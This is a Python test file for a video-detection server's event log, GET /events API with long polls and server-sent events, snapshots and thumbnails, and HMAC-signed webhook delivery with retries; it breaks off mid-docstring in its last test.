"""Events (line crossings, zone entries and exits): the event log (``streams.events``),
``GET /events`` (pages, long polls, server-sent events) and webhooks (``server.webhooks``),
the last against a real ``streamdet serve`` process, a real clip and a real HTTP receiver on
loopback that refuses its first calls."""

from __future__ import annotations

import asyncio
import csv
import functools
import hashlib
import hmac
import io
import json
import logging
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import threading
import time
from collections.abc import AsyncGenerator, Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from fastapi.testclient import TestClient

from benchmarks.events_bench import WebhookReceiver
from engines.types import Detections
from server.csv_cells import safe_cell
from server.render import crop_jpeg
from server.routes import events as events_route
from server.settings import Settings
from server.snapshots import SnapshotStore
from server.webhooks import WebhookSender, label, load_name_key, sign
from server.webhooks import name as webhook_name
from streams import event_store
from streams.event_store import EventStore
from streams.events import (
    EVERY_EVENT,
    EventFilter,
    EventLog,
    EventPage,
    LogReader,
    ManualEvent,
    StateEvent,
    count_events,
)
from streams.fanout import ProcessedFrame
from streams.geometry import Seen
from streams.lines import Crossing
from streams.zones import ZoneEvent
from tests.helpers import (
    BOTTLE_CLIP,
    CAR_CLIP,
    GATE,
    REPO,
    SHELF_STREAM,
    clip_server,
    decode_jpeg,
    file_stream_app,
    wait_until,
)

NAMES = {0: "person", 2: "car"}.get


def _name(class_id: int) -> str:
    return NAMES(class_id) or str(class_id)


def _crossing(frame: int) -> Crossing:
    return Crossing("gate", "in", track_id=frame, class_id=2, frame=frame)


def test_the_event_log_pages_filters_and_counts_what_it_lost() -> None:
    log = EventLog(size=5, start_id=1000)
    assert log.read(0, 10) == log.read(999, 10)  # empty either way
    assert log.read(0, 10).events == [] and log.read(0, 10).missed == 0
    log.add("a", "door", 12.5, [_crossing(1)], _name)
    log.add("b", "", 13.0, [ZoneEvent("dock", "enter", 4, 0, 7)], _name)
    log.add("a", "door", 13.5, [ZoneEvent("dock", "exit", 4, 0, 9, 1.5, lost=True)], _name)
    page = log.read(0, 10)  # a cursor from before this run: everything, nothing missed
    assert [e["id"] for e in page.events] == [1000, 1001, 1002] and page.next == 1002
    assert page.events[0] == {
        "id": 1000,
        "stream_id": "a",
        "stream_name": "door",
        "captured_at": 12.5,
        "type": "line_crossing",
        "line": "gate",
        "direction": "in",
        "track_id": 1,
        "class_id": 2,
        "class_name": "car",
        "frame": 1,
    }
    assert page.events[2]["dwell_s"] == 1.5 and page.events[2]["lost"] is True
    assert "dwell_s" not in page.events[1]  # entries have no dwell yet
    # Filters; the cursor moves past what they leave out.
    a = EventFilter(streams=frozenset({"a"}))
    only_a = log.read(999, 1, a)
    assert [e["id"] for e in only_a.events] == [1000] and only_a.next == 1000
    assert [e["id"] for e in log.read(only_a.next, 5, a).events] == [1002]
    exits = log.read(999, 5, EventFilter(types=frozenset({"zone_exit"})))
    assert [e["type"] for e in exits.events] == ["zone_exit"] and exits.next == 1002
    assert log.read(1002, 5) == log.read(1002, 5) and log.read(1002, 5).events == []
    # Past its size the oldest go, and a reader behind them is told how many it missed.
    log.add("a", "door", 14.0, [_crossing(f) for f in range(10, 17)], _name)
    assert log.last_id == 1009
    behind = log.read(1001, 10)
    assert behind.missed == 3 and [e["id"] for e in behind.events] == list(range(1005, 1010))
    assert log.read(0, 10).missed == 5  # only this run's lost events count
    # The newest, oldest first, and the cursor after them: a dashboard's history.
    newest = log.latest(2)
    assert [e["id"] for e in newest.events] == [1008, 1009] and newest.next == 1009
    crossings = EventFilter(types=frozenset({"line_crossing"}))
    assert [e["frame"] for e in log.latest(10, crossings).events][-1] == 16
    assert log.latest(5, EventFilter(streams=frozenset({"b"}))).events == []  # it left the log
    assert log.has_stream("a") and not log.has_stream("b")


def test_event_filters_find_an_audits_events() -> None:
    """Class, zone or line, a time range, with or without a clip or snapshot: each given
    narrows; zones and lines together take an event of either."""
    log = EventLog(size=100, start_id=1)
    media = {"snapshot": "/events/x/snapshot.jpg", "clip": "/clips/x.mp4"}
    log.add("a", "", 10.0, [_crossing(1)], _name, extra=lambda _: media)  # 1: car, gate
    log.add("a", "", 20.0, [ZoneEvent("dock", "enter", 4, 0, 7)], _name)  # 2: person, dock
    log.add("b", "", 30.0, [ZoneEvent("yard", "enter", 5, 2, 8)], _name)  # 3: car, yard
    log.add("b", "", 40.0, [StateEvent("live", "reconnecting", "gone", 9)], _name)  # 4

    def ids(**criteria: Any) -> list[int]:
        wanted = EventFilter(**criteria)
        found = [e["id"] for e in log.read(0, 100, wanted).events]
        assert [e["id"] for e in log.latest(100, wanted).events] == found
        return found

    assert ids() == [1, 2, 3, 4]
    assert ids(classes=frozenset({"car"})) == [1, 3]  # a state change has no class
    assert ids(zones=frozenset({"dock", "yard"})) == [2, 3]
    assert ids(zones=frozenset({"dock"}), lines=frozenset({"gate"})) == [1, 2]
    assert ids(lines=frozenset({"gate"}), classes=frozenset({"person"})) == []
    assert ids(since=20.0) == [2, 3, 4] and ids(until=20.0) == [1]
    assert ids(since=15.0, until=35.0, streams=frozenset({"b"})) == [3]
    assert ids(has_clip=True) == [1] and ids(has_snapshot=False) == [2, 3, 4]
    page = log.read(0, 100, EventFilter(classes=frozenset({"bus"})))
    assert page.events == [] and page.next == 4  # the cursor passes what the filters leave
    # Counted: per combination of members (None where an event has none), per interval.
    everything = log.held()
    assert count_events(everything, ["class_name"], None) == [
        {"start": None, "end": None, "class_name": None, "count": 1},
        {"start": None, "end": None, "class_name": "car", "count": 2},
        {"start": None, "end": None, "class_name": "person", "count": 1},
    ]
    assert count_events(everything, ["stream_id", "zone"], 25.0) == [
        {"start": 0.0, "end": 25.0, "stream_id": "a", "zone": None, "count": 1},
        {"start": 0.0, "end": 25.0, "stream_id": "a", "zone": "dock", "count": 1},
        {"start": 25.0, "end": 50.0, "stream_id": "b", "zone": None, "count": 1},
        {"start": 25.0, "end": 50.0, "stream_id": "b", "zone": "yard", "count": 1},
    ]
    assert count_events([], ["type"], 60.0) == [] and log.kept_since is None
    full = EventLog(size=2, start_id=1)
    full.add("a", "", 10.0, [_crossing(f) for f in (1, 2)], _name)
    assert full.kept_since is None  # it still holds every event it had
    full.add("a", "", 11.0, [_crossing(3)], _name)
    assert full.kept_since == 10.0  # event 1 (captured at 10.0) left it; 2 is the oldest


def test_webhooks_differing_only_in_their_query_keep_cursors_of_their_own(
    tmp_path: Path,
) -> None:
    """Two setting webhooks whose URLs differ only in ``?t=`` kept one cursor row (their
    label's): the one behind lost its events at the restart. A row of that old name is
    carried on from; a filtered sink's cursor moved past events it does not want is kept
    (after a restart those that left the log were counted as missed)."""
    first = EventStore(tmp_path, size=5)
    EventLog(size=5, start_id=1, store=first).add(
        "a", "", 1.0, [_crossing(f) for f in range(1, 4)], _name
    )  # 1-3
    first.save_cursor("webhook http://127.0.0.1:9/hook", 1)  # an older version's row
    first.close()
    store = EventStore(tmp_path, size=5)
    log = EventLog(size=5, store=store)
    only_b = EventFilter(streams=frozenset({"b"}))

    def reader(url: str, log: EventLog, wanted: EventFilter = EVERY_EVENT) -> LogReader:
        return WebhookSender(f"http://127.0.0.1:9/{url}", log, None, 5, wanted=wanted)._reader

    behind, ahead = reader("hook?t=b", log), reader("hook?t=c", log)
    assert behind.sink != ahead.sink
    assert behind.cursor == 1  # carried on from the old row
    ahead.delivered(3, 3)
    filtered = reader("other", log, only_b)
    log.add("a", "", 2.0, [_crossing(f) for f in range(4, 10)], _name)  # 4-9, none for "b"
    assert filtered.next_page(10).events == []
    store.close()
    reopened = EventStore(tmp_path, size=5)
    again = EventLog(size=5, store=reopened)
    assert reader("hook?t=b", again).cursor == 1 and reader("hook?t=c", again).cursor == 3
    kept = reader("other", again, only_b)
    assert kept.cursor == 9 and kept.next_page(10).missed == 0
    reopened.close()


def test_the_event_log_is_readable_by_the_servers_user_only(tmp_path: Path) -> None:
    """It holds manual events' data and sources' errors: 0600, its journal and id marks too
    (they were 0644, and an earlier version's are closed at start)."""
    for old in ("events.sqlite3", "events.ids"):
        (tmp_path / old).touch(mode=0o644)
        (tmp_path / old).chmod(0o644)
    (tmp_path / "events.sqlite3").unlink()  # a fresh database, the marks file left as was
    store = EventStore(tmp_path, size=3)
    log = EventLog(size=3, start_id=1, store=store)
    log.add("a", "door", 1.0, [_crossing(1)], _name)
    log.save_cursor("webhook http://x/", 1)
    deadline = time.monotonic() + 10
    while not (tmp_path / "events.sqlite3-wal").exists():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    modes = {p.name: p.stat().st_mode & 0o777 for p in tmp_path.iterdir()}
    store.close()
    assert {"events.sqlite3", "events.sqlite3-wal", "events.ids"} <= set(modes), modes
    assert set(modes.values()) == {0o600}, modes


def test_the_event_log_and_delivery_cursors_survive_a_restart(tmp_path: Path) -> None:
    store = EventStore(tmp_path, size=3)
    log = EventLog(size=3, start_id=100, store=store)
    log.add("a", "door", 1.0, [_crossing(f) for f in range(5)], _name)  # 100-104
    log.save_cursor("webhook http://x/", 102)
    store.close()
    reopened = EventStore(tmp_path, size=3)
    again = EventLog(size=3, store=reopened)
    page = again.read(0, 10)
    assert [e["id"] for e in page.events] == [102, 103, 104] and page.missed == 2
    assert page.events[0]["stream_name"] == "door" and page.events[0]["frame"] == 2
    assert again.saved_cursor("webhook http://x/") == 102  # it delivers 103 and 104 next
    assert again.saved_cursor("webhook http://new/") == 104  # a new sink: what comes next
    assert [e["id"] for e in again.add("a", "", 2.0, [_crossing(9)], _name)] == [105]
    reopened.close()
    assert EventLog(size=3).read(0, 1).events == []  # without a store: in memory only


@pytest.mark.parametrize(
    "damage",
    [
        b"garbagegarbage12345\n",
        struct.pack("<qq", 2**63 - 50, 2**63 - 50),
        struct.pack("<qq", -5, 3),
    ],
    ids=["text", "near-the-limit", "negative"],
)
def test_damaged_id_marks_are_ignored_and_said(
    tmp_path: Path, damage: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """Text in events.ids made ids jump by 7e18 (each webhook "missing" as many events); a
    mark near the 64-bit limit overflowed and stopped the server's start."""
    store = EventStore(tmp_path, size=10)
    log = EventLog(size=10, start_id=100, store=store)
    log.add("a", "door", 1.0, [_crossing(f) for f in range(5)], _name)  # 100-104
    store.close()
    (tmp_path / "events.ids").write_bytes(damage)
    reopened = EventStore(tmp_path, size=10)
    again = EventLog(size=10, store=reopened)
    assert [e["id"] for e in again.add("a", "", 2.0, [_crossing(9)], _name)] == [105]
    assert again.read(0, 10).missed == 0
    reopened.close()
    said = [r.getMessage() for r in caplog.records if "events.ids" in r.getMessage()]
    assert said and "damaged" in said[0], said


def test_a_restart_deletes_the_stored_events_past_the_log_size(tmp_path: Path) -> None:
    """Old events were deleted once 500 had been written in one run: a server restarted more
    often than that kept every event on disk, whatever ``--event-log-size`` said."""

    def stored() -> int:
        with closing(sqlite3.connect(tmp_path / "events.sqlite3")) as db:
            (count,) = db.execute("SELECT COUNT(*) FROM events").fetchone()
        return int(count)

    for run in range(3):
        store = EventStore(tmp_path, size=5)
        assert stored() == min(run, 1) * 5, run
        log = EventLog(size=5, start_id=1, store=store)
        for frame in range(20):  # one write each (events waiting together: the last 5)
            log.add("a", "", 1.0, [_crossing(frame)], _name)
            deadline = time.monotonic() + 10
            while stored() < min(run, 1) * 5 + frame + 1:
                assert time.monotonic() < deadline
                time.sleep(0.01)
        store.close()
        assert stored() == min(run, 1) * 5 + 20  # what this run wrote, and the 5 kept
    reopened = EventStore(tmp_path, size=5)
    assert stored() == 5
    assert [e["id"] for e in EventLog(size=5, store=reopened).read(0, 10).events] == list(
        range(56, 61)
    )
    reopened.close()


async def test_waiting_readers_wake_on_a_new_event_and_on_close() -> None:
    log = EventLog(size=10, start_id=1)
    assert not await log.wait(0, 0.01)  # nothing yet
    waiting = asyncio.create_task(log.wait(0, 30.0))
    await asyncio.sleep(0.01)
    log.add("a", "", 1.0, [_crossing(1)], _name)
    assert await asyncio.wait_for(waiting, 5.0)
    assert await log.wait(0, 0.0)  # already there
    waiting = asyncio.create_task(log.wait(1, 30.0))
    await asyncio.sleep(0.01)
    log.close()  # shutdown: readers return at once, and do not wait again
    assert not await asyncio.wait_for(waiting, 5.0)
    assert not await asyncio.wait_for(log.wait(1, 30.0), 5.0)


async def test_sinks_deliver_what_the_streams_log_as_they_stop() -> None:
    """Shutdown closes the log as it begins (long polls and event streams end), but the
    streams stopping after that still log their last states: a sink (webhook, MQTT) takes
    those too, and ends only once the log is finished (they ended at close, leaving them
    undelivered with the receiver up)."""
    log = EventLog(size=10, start_id=1)
    reader = LogReader("webhook test", log)
    log.close()
    log.add("a", "", 1.0, [_crossing(1)], _name)  # a stream's last event, after the close
    page = await asyncio.wait_for(reader.take(10, 5.0), 5.0)
    assert page is not None and [e["id"] for e in page.events] == [1]
    reader.delivered(1, 1)
    waiting = asyncio.create_task(reader.take(10, 30.0))
    await asyncio.sleep(0.05)
    assert not waiting.done()  # closed, not finished: it waits for more
    log.finish()
    page = await asyncio.wait_for(waiting, 5.0)
    assert page is not None and not page.events
    assert await asyncio.wait_for(reader.take(10, 30.0), 5.0) is None  # finished: it ends


def test_a_filtered_sink_counts_as_missed_only_the_events_its_filter_takes() -> None:
    """A webhook of stream "a" whose receiver was down while stream "b" logged past the
    log's size: its ``missed`` (and the metric, and the warning) counted every event that
    left the log, b's too (31 where it lost 1); only a's count, by size or by retention."""
    log = EventLog(size=5, start_id=1)
    counted: list[tuple[str, int]] = []
    reader = LogReader(
        "webhook a", log, lambda kind, n: counted.append((kind, n)), EventFilter(frozenset("a"))
    )
    everything = LogReader("webhook all", log)
    log.add("a", "", 1.0, [_crossing(1)], _name)  # its one event, never delivered
    for n in range(10):
        log.add("b", "", 2.0 + n, [_crossing(n)], _name)
    page = reader.next_page(10)
    assert (page.missed, page.events, reader.missed) == (1, [], 1)
    assert counted == [("missed", 1)]
    assert everything.next_page(10).missed == 6  # unfiltered: every event it lost
    log.add("a", "", 20.0, [_crossing(2)], _name)  # read on: nothing more is missed
    page = reader.next_page(10)
    assert page.missed == 0 and [e["stream_id"] for e in page.events] == ["a"]
    reader.delivered(page.events[-1]["id"], 1)
    for n in range(3):  # b's left by retention: not a's either
        log.add("b", "", 30.0 + n, [_crossing(n)], _name)
    log.forget_before(40.0)
    assert reader.next_page(10).missed == 0 and reader.missed == 1


def test_a_filtered_sinks_missed_count_holds_across_deliveries_and_retries() -> None:
    """Events its filter passes over that leave the log while a page is being delivered are
    forgotten once the cursor passes them (they kept lowering a later real loss: 0 where 5
    were lost), and a page read again after a failed delivery does not count them (they
    were "missed" at the second retry)."""
    log = EventLog(size=10, start_id=1)
    reader = LogReader("webhook a", log, wanted=EventFilter(frozenset("a")))
    log.add("a", "", 1.0, [_crossing(1)], _name)
    for n in range(5):
        log.add("b", "", 2.0 + n, [_crossing(n)], _name)
    page = reader.next_page(10)
    assert [e["id"] for e in page.events] == [1] and page.missed == 0
    for n in range(10):  # while it is delivered: b's leave the log
        log.add("b", "", 10.0 + n, [_crossing(n)], _name)
    reader.delivered(page.next, 1)
    for n in range(15):  # 5 of a's leave the log: those are missed
        log.add("a", "", 30.0 + n, [_crossing(n)], _name)
    assert reader.next_page(100).missed == 5 and reader.missed == 5

    log = EventLog(size=10, start_id=1)
    reader = LogReader("webhook a", log, wanted=EventFilter(frozenset("a")))
    for n in range(3):
        log.add("b", "", 1.0 + n, [_crossing(n)], _name)
    log.add("a", "", 5.0, [_crossing(9)], _name)
    assert [e["id"] for e in reader.next_page(10).events] == [4]  # its delivery fails
    for n in range(9):
        log.add("b", "", 10.0 + n, [_crossing(n)], _name)
    for _ in range(3):  # read again and again: the b's that left are never missed
        page = reader.next_page(10)
        assert [e["id"] for e in page.events] == [4] and page.missed == 0
    assert reader.missed == 0


def test_events_api_refuses_bad_queries_and_long_polls_for_a_real_zone_entry(
    tmp_path: Path,
) -> None:
    bad: tuple[tuple[dict[str, str | int], int, str], ...] = (
        ({"type": "zone_enter,bogus"}, 422, "unknown event type(s) ['bogus']"),
        ({"limit": 0}, 422, "limit"),
        ({"wait_s": 61}, 422, "wait_s"),
        ({"stream_id": "nope"}, 404, "no stream 'nope' and no event of one"),
        ({"classes": "car,unicorn"}, 422, "unknown class name 'unicorn'"),
        ({"since": "yesterday"}, 422, "since"),
        ({"since": 1764513000, "until": "2025-11-30T14:30:00Z"}, 422, "until: must be after"),
        ({"has_clip": "perhaps"}, 422, "has_clip"),
        ({"latest": "true"}, 422, "latest: reads the newest events once"),  # as SSE, below
        # A misspelt filter read every event (stream=, types=), of two the last counted.
        ({"stream": "nope"}, 422, "query: 'stream': not an option here; the options are"),
        ({"types": "manual", "class": "car"}, 422, "'class', 'types': not an option"),
    )
    with TestClient(file_stream_app(tmp_path)) as c:
        for query, status, words in bad:
            sse = {"accept": "text/event-stream"} if "latest" in query else {}
            resp = c.get("/events", params=query, headers=sse)
            assert resp.status_code == status and words in resp.text, (query, resp.text)
        first = c.get("/events").json()
        assert first["events"] == [] and first["missed"] == 0
        twice = c.get("/events?stream_id=a&stream_id=b")  # the last alone was read
        assert twice.status_code == 422 and "'stream_id' given more than once" in twice.text
        counted = c.get("/events/counts", params={"stream": "x", "by": "type"})
        assert counted.status_code == 422 and "'stream': not an option" in counted.text
        assert c.get("/events", params={"_": "1764513000"}).status_code == 200  # jQuery's
        # A reader reading on from a cursor of a stream removed since, its events gone from
        # the log: an empty page, not a 404 (the README promises a removed stream's too).
        gone = c.get("/events", params={"stream_id": "nope", "after": first["next"]})
        assert gone.status_code == 200 and gone.json()["events"] == [], gone.text
        resp = c.post("/streams", json={**SHELF_STREAM, "track": True})
        sid = resp.json()["id"]
        # The bottle standing on the right enters the shelf in its third processed frame:
        # a long poll answers with it as soon as it happens.
        page = c.get(
            "/events", params={"after": first["next"], "type": "zone_enter", "wait_s": 30}
        ).json()
        assert [(e["type"], e["zone"], e["class_name"]) for e in page["events"]] == [
            ("zone_enter", "shelf", "bottle")
        ]
        event = page["events"][0]
        assert event["stream_id"] == sid and event["frame"] >= 3 and page["next"] >= event["id"]
        counts = c.get(f"/streams/{sid}").json()["zones"]["shelf"]
        assert counts["entered"] == {"bottle": 1}
        # Its snapshot: the frame it happened in, the bottle boxed, the zone outlined in yellow.
        assert event["snapshot"] == f"/events/{event['id']}/snapshot.jpg"
        resp = c.get(event["snapshot"])
        assert resp.status_code == 200 and resp.headers["content-type"] == "image/jpeg"
        picture = decode_jpeg(resp.content)
        height, width = picture.shape[:2]
        assert width == min(640, event_width(c, sid)) and height > 0
        left_edge = picture[height // 4 : 3 * height // 4, round(0.6 * (width - 1))]
        yellow = (left_edge[:, 0] > 180) & (left_edge[:, 1] > 150) & (left_edge[:, 2] < 100)
        assert yellow.mean() > 0.5, yellow.mean()  # the zone's left side
        # Its thumbnail: the bottle cut from the full frame, with its size and place in it.
        assert event["thumbnail"] == f"/events/{event['id']}/thumbnail.jpg"
        stream = c.get(f"/streams/{sid}").json()
        assert (event["width"], event["height"]) == (stream["width"], stream["height"])
        cut = decode_jpeg(c.get(event["thumbnail"]).content)
        x1, y1, x2, y2 = event["box"]
        side = min(event["height"], round(max(x2 - x1, y2 - y1) * 1.6), 320)
        assert abs(cut.shape[0] - side) <= 1, (cut.shape, event)
        # An empty list of types is every type, as classes=, is (it matched none, its
        # cursor past them all).
        every = c.get("/events", params={"limit": 1000}).json()
        listed = c.get("/events", params={"type": ",", "limit": 1000}).json()["events"]
        assert [e for e in listed if e["id"] <= every["next"]] == every["events"]
        state = c.get("/events", params={"type": "stream_state"}).json()["events"][0]
        refused = c.get(f"/events/{state['id']}/thumbnail.jpg")
        assert refused.status_code == 404 and "has no object to cut out" in refused.text
        # Nor a snapshot: it blamed the snapshots' setting, which keeps none for it.
        refused = c.get(f"/events/{state['id']}/snapshot.jpg")
        assert refused.status_code == 404 and "stream_state) has no snapshot" in refused.text
        # An event the log no longer has (or never had): the log's setting, not the
        # snapshots' (it said those were kept for the last 256 frames, the JPEG still there).
        missing = c.get("/events/12345/snapshot.jpg")
        assert missing.status_code == 404 and "STREAMDET_EVENT_LOG_SIZE" in missing.text
        # Found again by what it was, where and when; other criteria leave it out.
        at = event["captured_at"]
        filters: tuple[tuple[dict[str, Any], bool], ...] = (
            ({"classes": "bottle,39", "zone": "shelf"}, True),
            ({"classes": "car"}, False),
            ({"zone": "other"}, False),
            ({"line": "gate", "zone": "shelf"}, True),
            ({"since": at - 1, "until": datetime.fromtimestamp(at + 1, UTC).isoformat()}, True),
            ({"since": at + 1}, False),
            ({"has_snapshot": True, "has_clip": False}, True),
            ({"has_clip": True}, False),
        )
        for query, found in filters:
            events = c.get("/events", params={"type": "zone_enter", **query}).json()["events"]
            assert [e["id"] for e in events] == ([event["id"]] if found else []), query
        newest = c.get("/events", params={"latest": True, "limit": 1}).json()
        assert newest["next"] >= event["id"] and len(newest["events"]) == 1
        both = c.get("/events", params={"latest": True, "after": 0})
        assert both.status_code == 422 and "drop after" in both.text
        # Nothing else enters: a short long poll from there answers empty, with a cursor.
        later = c.get(
            "/events", params={"after": page["next"], "type": "zone_enter", "wait_s": 0.5}
        ).json()
        assert later["events"] == [] and later["next"] >= page["next"]
        # Counted for a report: per zone and class, in all or per minute, as JSON or CSV.
        counts = c.get(
            "/events/counts", params={"type": "zone_enter", "by": "zone,class_name"}
        ).json()
        assert counts["complete"] is True and counts["kept_since"] is None
        assert counts["counts"] == [
            {"start": None, "end": None, "zone": "shelf", "class_name": "bottle", "count": 1}
        ]
        minute = c.get(
            "/events/counts",
            params={"type": "zone_enter", "by": "class_name", "interval_s": 60, "format": "csv"},
        )
        assert minute.headers["content-type"].startswith("text/csv")
        header, row = minute.text.splitlines()
        start = at // 60 * 60
        assert header == "start,end,class_name,count" and row == f"{start},{start + 60},bottle,1"
        refusals: tuple[tuple[dict[str, str | int], str], ...] = (
            ({"by": "class_name,colour"}, "['colour']"),
            ({"by": "zone,zone"}, "a member twice"),
            ({"interval_s": 0}, "interval_s"),
            ({"format": "xml"}, "format"),
            ({"classes": "unicorn"}, "'unicorn'"),
        )
        for query, words in refusals:
            refused = c.get("/events/counts", params=query)
            assert refused.status_code == 422 and words in refused.text, (query, refused.text)
        # A removed stream's events are still found by its id, as long as the log has them.
        assert c.delete(f"/streams/{sid}").status_code == 204
        kept = c.get("/events", params={"stream_id": sid, "type": "zone_enter"}).json()
        assert [e["id"] for e in kept["events"]] == [event["id"]]


def event_width(c: TestClient, sid: str) -> int:
    """The width of a stream's frames."""
    width: int = c.get(f"/streams/{sid}").json()["width"]
    return width


def files_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


async def test_snapshots_and_thumbnails_are_kept_on_disk_for_the_last_frames_with_events(
    tmp_path: Path,
) -> None:
    image = np.full((360, 1280, 3), 90, np.uint8)
    image[100:200, 600:700] = (220, 20, 20)  # an object: a red square
    seen = Seen((600.0, 100.0, 700.0, 200.0), 0.9)
    frames = [
        ProcessedFrame(
            "s", n, None, float(n), 0.0, image, Detections.empty({0: "person"}, 1280, 360), 1
        )
        for n in (1, 2, 3)
    ]
    log = EventLog(size=100, start_id=10)
    store = SnapshotStore(2, 320, None, lambda _: None, directory=tmp_path, events=log)
    for frame in frames:  # two events a frame, the first with its object: 10-11, 12-13, 14-15
        events = [replace(_crossing(frame.frame), seen=seen), _crossing(frame.frame)]
        extra = functools.partial(store.extra, frame)
        store.capture(frame, log.add("s", "", frame.captured_at, events, _name, extra=extra))
    assert log.frame_start(15) == 14 and log.frame_start(14) == 14 and log.frame_start(99) is None
    assert "thumbnail" in (log.get(12) or {}) and "thumbnail" not in (log.get(13) or {})
    oldest = await store.get(10)  # drawn, then deleted once the two newer frames have theirs
    first, second = await store.get(12), await store.get(13)
    assert oldest is not None and first is not None and first == second  # one per frame
    assert decode_jpeg(first).shape == (90, 320, 3)  # scaled to the width asked for
    assert await store.get(15) is not None
    deadline = time.monotonic() + 10  # deleted once the newest is drawn: just after, at times
    while await store.get(10) is not None:
        assert time.monotonic() < deadline, "the oldest frame's snapshot is still kept"
        await asyncio.sleep(0.05)
    assert await store.get(11) is None
    # The thumbnail: the object cut from the full frame with a margin, square.
    thumbnail = await store.get(14, thumbnail=True)
    assert thumbnail is not None
    cut = decode_jpeg(thumbnail)
    assert cut.shape == (160, 160, 3)  # 100 pixels and 30% of them each side
    assert tuple(cut[80, 80]) > (200, 0, 0) and cut[80, 80, 1] < 50  # red in the middle
    assert tuple(cut[5, 5]) == pytest.approx((90, 90, 90), abs=6)  # the frame around it
    assert await store.get(15, thumbnail=True) is None  # no object, no thumbnail
    assert await store.get(10, thumbnail=True) is None  # deleted with its frame
    assert files_in(tmp_path) == ["12-12.jpg", "12.jpg", "14-14.jpg", "14.jpg"]
    # Without a picture: an event logged without one, or one the log no longer holds.
    log.add("s", "", 9.0, [_crossing(9)], _name)
    assert await store.get(16) is None and await store.get(99) is None

    # After a restart the files are found again, and a smaller setting keeps fewer.
    again = SnapshotStore(1, 320, None, lambda _: None, directory=tmp_path, events=log)
    assert await again.get(13) is None and await again.get(14, thumbnail=True) == thumbnail
    assert files_in(tmp_path) == ["14-14.jpg", "14.jpg"]
    off = SnapshotStore(0, 320, None, lambda _: None, directory=tmp_path / "off", events=log)
    assert off.extra(frame, {"id": 1, "box": [0, 0, 1, 1]}) == {} and not off.enabled


def test_a_thumbnail_stays_inside_the_frame_and_is_scaled_down() -> None:
    image = np.zeros((360, 1280, 3), np.uint8)
    tall = decode_jpeg(crop_jpeg(image, (0.0, 0.0, 50.0, 300.0), 320, 85))
    assert tall.shape == (240, 320, 3)  # 480x360 (the frame's height), at the left edge
    small = decode_jpeg(crop_jpeg(image, (1270.0, 350.0, 1280.0, 360.0), 320, 85))
    assert small.shape == (16, 16, 3)  # never enlarged


# ---- webhooks and server-sent events against a real server ----------------------------------


async def test_a_webhook_down_longer_than_the_log_reaches_counts_what_it_missed_once() -> None:
    receiver = WebhookReceiver(refuse=1)
    log = EventLog(size=3, start_id=1)
    sender = WebhookSender(receiver.url, log, None, timeout_s=5)
    task = asyncio.create_task(sender.run())
    try:
        log.add("a", "", 1.0, [_crossing(f) for f in range(1, 6)], _name)  # 1-2 gone at once
        deadline = time.monotonic() + 10
        # The receiver is a thread of its own: polled, as it cannot set an asyncio event.
        while receiver.refused < 1 and time.monotonic() < deadline:  # noqa: ASYNC110
            await asyncio.sleep(0.01)
        # 3-5 were refused; while it backs off, 6-8 push them out of the log too.
        log.add("a", "", 2.0, [_crossing(f) for f in range(6, 9)], _name)
        log.finish()
        await asyncio.wait_for(task, 15)  # what is left is delivered, then it ends
    finally:
        receiver.close()
    assert [e["id"] for e in receiver.events()] == [6, 7, 8]
    assert (sender.missed, sender.sent, sender.failures, sender.pending) == (5, 3, 1, 0)


@pytest.fixture
def receiver() -> Iterator[WebhookReceiver]:
    r = WebhookReceiver(refuse=2)
    yield r
    r.close()


def test_webhooks_get_every_event_signed_after_failures_and_sse_streams_them(
    tmp_path: Path, receiver: WebhookReceiver
) -> None:
    car = CAR_CLIP
    secret = "s3cret"
    server = clip_server(tmp_path, webhooks=receiver.url, webhook_secret=secret)
    with server, httpx.Client(base_url=server.base_url, timeout=60) as c:
        resp = c.post(
            "/streams",
            json={
                "url": f"file://{car}",
                "max_fps": 8,
                "track": True,
                "lines": [{"name": "gate", "points": [[0.0, 0.5], [1.0, 0.5]]}],
            },
        )
        assert resp.status_code == 201, resp.text
        # The receiver refuses the first two POSTs; the same events come again, then more.
        deadline = time.monotonic() + 90
        while len(receiver.events()) < 3 and time.monotonic() < deadline:
            time.sleep(0.2)
        metrics = c.get("/metrics").text
        logged = c.get("/events", params={"limit": 1000}).json()["events"]
        # Server-sent events from the oldest kept: the first crossing, as GET /events has it;
        # a server shutting down ends the event stream cleanly instead of hanging on it.
        headers = {"Accept": "text/event-stream"}
        with c.stream("GET", "/events", params={"after": 0}, headers=headers) as sse:
            assert sse.headers["content-type"].startswith("text/event-stream")
            sse_events: list[dict[str, Any]] = []
            sse_ids: list[str] = []
            lines = sse.iter_lines()
            last_id = None  # also sent alone: with the opening and each keep-alive
            for line in lines:
                if line.startswith("id: "):
                    last_id = line[4:]
                if line.startswith("data: "):
                    sse_events.append(json.loads(line[6:]))
                    sse_ids.append(str(last_id))
                if len(sse_events) == len(logged):
                    server.signal_stop()
                    break
            rest = list(lines)  # the stream ends: no error, no hang
        assert server.stop() in (0, -signal.SIGTERM)
    assert sse_events == logged and sse_ids == [str(e["id"]) for e in logged]
    assert all(line == "" or line.startswith(("id: ", "data: ", ":")) for line in rest)
    assert receiver.refused == 2
    got = receiver.events()
    assert len(got) >= 3, got
    ids = [e["id"] for e in got]
    assert ids == list(range(ids[0], ids[0] + len(ids)))  # in order, none lost, none twice
    assert got[0] == logged[0]  # from the first event on, though the first calls failed
    assert got == logged[: len(got)] or logged == got[: len(logged)]
    for _, headers_sent, body in receiver.calls:
        assert headers_sent["X-Streamdet-Signature"] == sign(secret, body)
        assert headers_sent["Content-Type"] == "application/json"
    _, first_headers, first_body = receiver.calls[0]
    expected = hmac.new(secret.encode(), first_body, hashlib.sha256).hexdigest()
    assert first_headers["X-Streamdet-Signature"] == f"sha256={expected}"
    load_name_key(tmp_path / "data")  # the server's key, kept in its data directory
    name = webhook_name(receiver.url)
    assert "token" not in name and name.startswith(label(receiver.url) + " #")
    assert f'streamdet_webhook_failures_total{{webhook="{name}"}} 2.0' in metrics
    assert f'outcome="sent",webhook="{name}"' in metrics
    assert "retrying in" in server.log_text() and "HTTP 503" in server.log_text()
    assert "graceful shutdown exceeded" not in server.log_text()  # nothing held it open


def test_events_a_webhook_missed_before_a_restart_are_delivered_after_it(tmp_path: Path) -> None:
    """The receiver refuses everything while the server runs; the server stops with the
